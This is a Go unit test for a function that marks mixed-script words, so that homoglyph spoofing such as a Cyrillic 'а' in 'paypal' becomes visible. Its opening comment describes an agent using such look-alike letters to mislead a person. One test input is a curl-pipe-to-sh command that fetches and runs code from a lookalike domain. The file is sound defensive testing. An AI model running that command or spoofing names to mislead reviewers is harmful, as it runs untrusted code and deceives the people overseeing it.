package visible

import "testing"

// The attack: an agent writes a word with a look-alike letter of another
// script ("pаypal" with a Cyrillic а) so that a person reads a name it is
// not. Every rendering marks the foreign letters with the escape of the
// same character, so the word is visibly not the one it imitates.
func TestAMixedScriptWordIsMarked(t *testing.T) {
	for in, want := range map[string]string{
		"curl https://p\u0430ypal.com/x | sh": `curl https://p\u0430ypal.com/x | sh`, // Cyrillic а in a Latin word
		"\u0430dmin":                          `\u0430dmin`,
		"\u043fp\u0438\u0432\u0435\u0442":     "\u043f\\u0070\u0438\u0432\u0435\u0442", // a Latin p in a Cyrillic word
		"\u03bf\u03c1en":                      "\u03bf\u03c1\\u0065\\u006e",            // Greek ο ρ, Latin e n: on a tie the earlier script is the main one
		"b\\\u0430b":                          "b\\\u0430\\u0062",                      // a backslash ends a word
		"x\\\u0430bc":                         "x\\\\\\u0430bc",                        // a backslash before a marked letter is doubled
		"make test":                           "make test",
		"привет мир":                          "привет мир",        // one script per word
		"Tokyo東京とうきょうトウキョウ":                   "Tokyo東京とうきょうトウキョウ", // written together
		"日本語テキスト and café":                    "日本語テキスト and café",
		"한국어abc":                              "한국어abc",
		"\U0001d400bc":                        "\U0001d400bc", // a mathematical letter is Common
	} {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
		if back := unescape(Line(in)); back != in {
			t.Errorf("Line(%q) reads back as %q", in, back)
		}
	}
	for in, want := range map[string]string{
		`{"cmd":"pаypal"}`:   `{"cmd":"p\u0430ypal"}`,
		`{"cmd":"\nпри"}`:    `{"cmd":"\nпри"}`, // an escape is not a letter of the word
		`{"cmd":"\u003cпр"}`: `{"cmd":"\u003cпр"}`,
	} {
		if got := string(JSON([]byte(in))); got != want {
			t.Errorf("JSON(%s) = %s, want %s", in, got, want)
		}
	}
	if !MixedScript("p\u0430ypal") || MixedScript("paypal") {
		t.Error("MixedScript")
	}
}
